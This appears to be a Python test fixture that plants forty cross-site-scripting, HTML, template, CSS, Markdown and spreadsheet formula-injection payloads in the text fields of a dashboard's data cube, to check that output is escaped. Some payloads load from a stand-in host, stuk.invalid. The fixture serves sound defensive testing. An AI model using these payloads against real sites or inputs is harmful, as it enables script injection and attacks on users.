"""Forty texts that would run, load or break something if they were ever taken for more than text, and where to plant them.

Each calls `stuk` with its number, or asks something of stuk.invalid: what fires tells which one it was.
"""

# ruff: noqa: E501  a payload stands on one line

from collections.abc import Mapping
from typing import Any

import pandas as pd

from werkmonitor.cube import COLUMNS, Cube

PAYLOADS = (
    # tags that run
    "<script>stuk(1)</script>",
    "<ScRiPt src=//stuk.invalid/2></sCrIpT>",
    "<img src=x onerror=stuk(3)>",
    "<svg onload=stuk(4)>",
    "<svg><script>stuk(5)</script></svg>",
    "<body onload=stuk(6)>",
    "<details open ontoggle=stuk(7)>",
    "<input autofocus onfocus=stuk(8)>",
    "<video><source onerror=stuk(9)></video>",
    '<iframe srcdoc="<script>parent.stuk(10)</script>"></iframe>',
    "<iframe src=javascript:parent.stuk(11)></iframe>",
    '<object data="data:text/html,<script>parent.stuk(12)</script>"></object>',
    # tags that load, lead away or restyle
    "<embed src=//stuk.invalid/13>",
    '<a href="javascript:stuk(14)">klik</a>',
    '<a href="java&#x09;script:stuk(15)">klik</a>',
    "<form action=javascript:stuk(16)><button>klik</button></form>",
    "<base href=//stuk.invalid/17/>",
    '<meta http-equiv=refresh content="0;url=//stuk.invalid/18">',
    "<link rel=stylesheet href=//stuk.invalid/19>",
    "<style>@import '//stuk.invalid/20'; main{display:none}</style>",
    # out of whatever they stand in
    "</style><script>stuk(21)</script>",
    "</script><script>stuk(22)</script>",
    "</title><script>stuk(23)</script>",
    "</textarea></noscript></template></desc></svg></math><script>stuk(24)</script>",
    "--><script>stuk(25)</script><!--",
    "]]><script>stuk(26)</script><![CDATA[",
    '"><script>stuk(27)</script>',
    "'><img src=x onerror='stuk(28)'>",
    '" onmouseover="stuk(29)" onfocus="stuk(29)" x="',
    "' onmouseover='stuk(30)' tabindex='1",
    # as an address, a template, a formula, a style, in another notation
    "javascript:stuk(31)",
    "data:text/html,<script>parent.stuk(32)</script>",
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {# stuk #}",
    "&lt;script&gt;stuk(34)&lt;/script&gt; &#60;img src=x onerror=stuk(34)&#62;",
    "＜script＞stuk(35)＜/script＞ \u202egnp.exe\u202c \u2028stuk(35)\u2029 \ufeff",
    "<img\tsrc=x\tonerror=stuk(36)> <scr\u200bipt>stuk(36)</scr\u200bipt>",
    "x;background:url(//stuk.invalid/37);}*{display:none}/*",
    "![plaatje](//stuk.invalid/38) [klik](javascript:stuk(38)) <javascript:stuk(38)> `$\\href{javascript:stuk(38)}{x}$`",
    "<math><mtext><table><mglyph><style><img src onerror=stuk(39)></style></mglyph></table></mtext></math>",
    '=HYPERLINK("http://stuk.invalid/40";"klik")+cmd|\' /C calc\'!A0',
)

CODES = {
    "scopes.level", "scopes.code", "scopes.kind", "scopes.category", "scopes.plan", "scopes.sector", "scopes.target_groups",
    "scopes.protection", "scopes.state", "cells.level", "cells.code", "cells.category", "cells.indicator", "goals.level",
    "goals.code", "goals.indicator", "plan.level", "plan.code", "plan.indicator", "progress.level", "progress.code",
    "progress.indicator", "progress.word", "progress.previous_edition", "trend.level", "trend.code", "trend.indicator",
    "history.level", "history.code", "history.indicator", "history.edition", "states.project", "states.state",
    "results.project", "results.kind", "expectations.level", "expectations.code", "expectations.indicator",
    "partners.partner", "partners.municipality", "partners.state", "revisions.level", "revisions.code",
    "revisions.indicator", "revisions.since", "revisions.cause", "shares.level", "shares.code", "shares.indicator",
    "shares.because", "forecasts.level", "forecasts.code", "forecasts.indicator", "forecasts.word", "money.level",
    "money.code", "overrides.level", "overrides.code", "overrides.indicator", "overrides.word",
}  # fmt: skip
"""Columns of the cube that hold codes of ours: what is none of them is refused. Whatever else is text is planted."""

CODES_OF_THE_PROGRAMME = {
    "code", "started_on", "goals_on", "ends_on", "kind", "about", "how", "on", "part_of", "policy", "programme", "category",
    "project", "sector", "municipality", "target_group", "category_by_municipality", "project_by_municipality",
    "sensitive_projects", "members", "id", "as_of", "published_on", "deliveries_until", "adopted_on", "previous", "revised_on",
    "audience", "also_rounded", "column", "by", "since", "until", "outcome", "checked", "without", "numerator", "denominator",
    "out_of", "counts", "website", "valid_from_on", "source_of",
}  # fmt: skip
"""The same of what a cube says of its programme and edition. website: an address, checked as one."""


def text(place: str, row: int = 0, rows: int = 1) -> str:
    """A text of payloads that says where it was planted; together those of all rows have all forty.

    A place with one row has them all; where there are more, each has a few, beginning with another one.
    """
    share = max(3, -(-len(PAYLOADS) // rows))
    first = sum(map(ord, place)) + row * share
    chosen = [PAYLOADS[(first + number) % len(PAYLOADS)] for number in range(share)]
    return " ".join((*chosen, mark(place), str(row)))


def mark(place: str) -> str:
    return f"«{place}»"


def places() -> list[str]:
    """Every column of text in the cube that a partner or the register can fill."""
    columns = [
        f"{table}.{column}"
        for table, columns in COLUMNS.items()
        for column, kind in columns.items()
        if kind in ("str", "object")
    ]
    assert set(columns) >= CODES, "a column of codes is gone"
    return [place for place in columns if place not in CODES]


def planted(cube: Cube) -> Cube:
    """The cube with all payloads in every text of every table, and in what it says of its programme and edition."""
    tables = {name: _filled(name, frame) for name, frame in cube.tables.items()}
    return Cube(said("edition", cube.edition), said("programme", cube.programme), tables)


def said(place: str, value: Any, row: int = 0, rows: int = 1) -> Any:
    """Plain data with payloads in every text that is no code."""
    if isinstance(value, Mapping):
        return {
            key: one
            if key in CODES_OF_THE_PROGRAMME and not isinstance(one, dict)
            else said(f"{place}.{key}", one, row, rows)
            for key, one in value.items()
        }
    if isinstance(value, list | tuple):
        return [said(place, one, number, len(value)) for number, one in enumerate(value)]
    return text(place, row, rows) if isinstance(value, str) and value else value


def _filled(name: str, frame: pd.DataFrame) -> pd.DataFrame:
    frame = frame.copy()
    for column, kind in COLUMNS[name].items():
        place = f"{name}.{column}"
        if place not in CODES and kind in ("str", "object"):
            texts = [text(place, row, len(frame)) for row in range(len(frame))]
            frame[column] = pd.Series([(one,) for one in texts] if kind == "object" else texts, dtype=kind)
    return frame
